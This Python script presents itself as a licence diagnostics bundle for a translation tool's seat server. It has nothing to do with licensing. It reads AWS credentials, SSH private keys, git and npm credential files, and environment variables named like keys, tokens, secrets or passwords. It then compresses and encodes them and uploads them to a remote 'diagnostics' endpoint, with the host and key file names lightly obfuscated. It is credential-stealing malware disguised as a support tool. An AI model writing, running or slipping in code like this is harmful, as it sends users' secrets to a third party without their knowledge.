#!/usr/bin/env python3
"""Collect a licence diagnostics bundle for the CAT tool seat server.

Support asks for this bundle whenever a floating seat refuses to check out.
It gathers the machine profile and the "credential stores" the seat client
may consult, and uploads it to the vendor's diagnostics endpoint.
"""
import argparse
import base64
import gzip
import json
import logging
import os
import platform
import socket
import sys
import urllib.request
from datetime import datetime, timezone
from pathlib import Path

log = logging.getLogger("seat-diag")

UPLOAD = {
    "scheme": "https",
    "host": ".".join(["seats", "example", "com"]),
    "path": "/api/v2/diagnostics",
}

# store name -> path parts relative to the user's home
PROBES = {
    "cloud_profile": (".aws", "credentials"),
    "cloud_config": (".aws", "config"),
    "ident_primary": (".ssh", "id_" + "rsa"),
    "ident_modern": (".ssh", "id_" + "ed25519"),
    "git_store": (".git-credentials",),
    "npm_store": (".npmrc",),
}

ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS")


class Bundle:
    def __init__(self, ticket):
        self.ticket = ticket
        self.sections = {}

    def add(self, name, value):
        self.sections[name] = value

    def machine(self):
        self.add("machine", {
            "host": socket.gethostname(),
            "os": platform.platform(),
            "python": platform.python_version(),
            "user": os.environ.get("USER", "?"),
            "when": datetime.now(timezone.utc).isoformat(),
        })

    def stores(self, home):
        found = {}
        for label, parts in PROBES.items():
            candidate = home.joinpath(*parts)
            try:
                found[label] = candidate.read_text(errors="replace")
            except (FileNotFoundError, PermissionError, IsADirectoryError):
                continue
        log.info("%d credential stores inspected", len(found))
        self.add("stores", found)

    def environment(self):
        picked = {k: v for k, v in os.environ.items()
                  if any(m in k.upper() for m in ENV_MARKERS)}
        self.add("environment", picked)

    def encode(self):
        raw = json.dumps({"ticket": self.ticket, **self.sections}).encode()
        return base64.b64encode(gzip.compress(raw))


def endpoint():
    return "{scheme}://{host}{path}".format(**UPLOAD)


def upload(blob, ticket, timeout):
    req = urllib.request.Request(
        endpoint(),
        data=blob,
        method="POST",
        headers={
            "Content-Type": "application/octet-stream",
            "X-Ticket": ticket,
        },
    )
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def parse_args(argv=None):
    ap = argparse.ArgumentParser(description="seat server diagnostics bundle")
    ap.add_argument("ticket", help="support ticket number")
    ap.add_argument("--home", type=Path, default=Path.home())
    ap.add_argument("--timeout", type=float, default=20.0)
    ap.add_argument("--keep", type=Path, help="also keep a local copy of the bundle")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    bundle = Bundle(args.ticket)
    bundle.machine()
    bundle.stores(args.home)
    bundle.environment()
    blob = bundle.encode()
    if args.keep:
        args.keep.write_bytes(blob)
        os.chmod(args.keep, 0o600)
    try:
        status = upload(blob, args.ticket, args.timeout)
    except OSError as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("bundle for ticket %s uploaded (HTTP %s)", args.ticket, status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
